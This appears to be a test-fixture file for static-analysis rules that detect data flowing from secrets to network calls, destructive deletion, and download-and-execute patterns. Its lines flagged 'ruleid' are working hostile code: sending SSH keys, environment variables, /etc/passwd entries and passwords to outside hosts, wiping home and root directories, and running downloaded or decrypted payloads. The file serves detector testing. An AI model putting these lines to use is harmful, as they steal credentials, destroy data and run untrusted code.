# Annotated examples for value-flow rules (default set): source → sink, not co-occurrence.
import base64
import os
import shutil
import socket
import subprocess
import zlib
from pathlib import Path
from zipimport import zipimporter

import requests
from Crypto.Cipher import AES

HOOK = "https://collector.example.net/in"
ENCODED_HELPER = "f0VMRgIBAQAAAAAAAAAAAA=="


def read_key():
    return Path.home().joinpath(".ssh", "id_rsa").read_text()


def ship(payload):
    # ruleid: AIR-FLOW-001
    requests.post(HOOK, data=payload)


ship(read_key())

# ruleid: AIR-FLOW-001
requests.post(HOOK, json={k: v for k, v in os.environ.items()})

facts = {"who": subprocess.check_output(["whoami"]).decode(), "host": socket.gethostname()}
report = f"{facts['who']}@{facts['host']}"
# ruleid: AIR-FLOW-001
requests.post(HOOK, data=report)

accounts = []
with open("/etc/passwd") as fh:
    for line in fh:
        accounts.append(line.split(":")[0])
# ruleid: AIR-FLOW-001
requests.post(HOOK, data=",".join(accounts))


class Agent:
    def __init__(self):
        self.env = dict(os.environ)

    def beacon(self):
        # ruleid: AIR-FLOW-001
        requests.post(HOOK, json=self.env)


# A secret read, and separately an unrelated request: no flow, no AIR-FLOW finding.
config_home = os.environ.copy()
# ok: AIR-FLOW-001
status = requests.get("https://status.example.org/api", timeout=5)

# ruleid: AIR-FLOW-002
requests.get("https://api.example.org/v1", headers={"Authorization": os.environ["API_TOKEN"]})
# ok: AIR-FLOW-002
requests.get("https://api.example.org/v1/public", timeout=5)

commits = subprocess.run(["git", "log", "-1"], capture_output=True, text=True).stdout
# ruleid: AIR-FLOW-002
requests.post("https://chat.example.org/hook", json={"text": commits})

for root, dirs, files in os.walk(os.path.expanduser("~")):
    for name in files:
        # ruleid: AIR-FLOW-003
        os.remove(os.path.join(root, name))

for entry in Path("/").iterdir():
    # ruleid: AIR-FLOW-003
    shutil.rmtree(entry, ignore_errors=True)

for stale in Path("build").rglob("*.o"):
    # ok: AIR-FLOW-003
    stale.unlink()

for folder, _, names in os.walk("/tmp/airlock-scratch"):
    for name in names:
        # ok: AIR-FLOW-003
        os.remove(os.path.join(folder, name))


def perm(private_key):
    # ruleid: AIR-FLOW-004
    requests.post("https://0123abcd.mockapi.io/tron", json={"key": private_key})


def beacon(password):
    # ruleid: AIR-FLOW-004
    requests.post("http://84.54.44.100:3000/nodes", data={"p": password})


def login(password):
    # ok: AIR-FLOW-004
    return requests.post("https://api.example.com/login", json={"password": password})


# ok: AIR-FLOW-004
requests.post("https://hooks.slack.com/services/T000/B000/XXX", json={"text": "build passed"})

blob = requests.get("https://example.invalid/launcher.exe").content
open("launcher.exe", "wb").write(blob)
# ruleid: AIR-FLOW-005
os.system("launcher.exe")

fetched = "tool.bin"
urllib_path = requests.get("https://example.invalid/tool").content
Path(fetched).write_bytes(urllib_path)
# ruleid: AIR-FLOW-005
subprocess.run(["./" + fetched, "--run"])

csv = requests.get("https://example.invalid/data.csv").content
open("data.csv", "wb").write(csv)
# ok: AIR-FLOW-005
subprocess.run(["wc", "-l", "report.txt"])


STUB_KEY = b"0123456789abcdef"
packed = open("stub.aes", "rb").read()
open("stub.zip", "wb").write(zlib.decompress(AES.new(STUB_KEY, AES.MODE_GCM).decrypt(packed)))
# ruleid: AIR-FLOW-006
zipimporter("stub.zip").load_module("stub")

helper = "helper.bin"
Path(helper).write_bytes(base64.b64decode(ENCODED_HELPER))
# ruleid: AIR-FLOW-006
subprocess.Popen([helper])

archive = zlib.decompress(open("report.z", "rb").read())
open("report.csv", "wb").write(archive)
# ok: AIR-FLOW-006
subprocess.run(["wc", "-l", "summary.txt"])

BOT_TOKEN = os.environ.get("BOT_TOKEN", "")
# ok: AIR-FLOW-004
requests.post(f"https://api.telegram.org/bot{BOT_TOKEN}/sendMessage", data={"text": "done"})
# ruleid: AIR-FLOW-004
requests.post(f"https://api.telegram.org/bot{BOT_TOKEN}/sendMessage", data={"text": os.environ})


for walk_dir, _dirs, walk_files in os.walk(os.path.expanduser("~")):
    for walk_name in walk_files:
        # ruleid: AIR-FLOW-001
        requests.post("https://files.example.net/u", files={"f": open(os.path.join(walk_dir, walk_name), "rb")})

for report_dir, _dirs, report_files in os.walk("build/reports"):
    for report_name in report_files:
        # ok: AIR-FLOW-001
        requests.post("https://ci.example.net/u", files={"f": open(os.path.join(report_dir, report_name), "rb")})

downloads = os.path.expanduser("~/Downloads")
for entry in os.listdir(downloads):
    kind = os.path.splitext(entry)[1].lstrip(".") or "other"
    # ok: AIR-FLOW-003
    shutil.move(os.path.join(downloads, entry), os.path.join(downloads, kind, entry))

for entry in os.listdir(os.path.expanduser("~")):
    # ruleid: AIR-FLOW-003
    shutil.move(os.path.join(os.path.expanduser("~"), entry), "/tmp/.cache/" + entry)
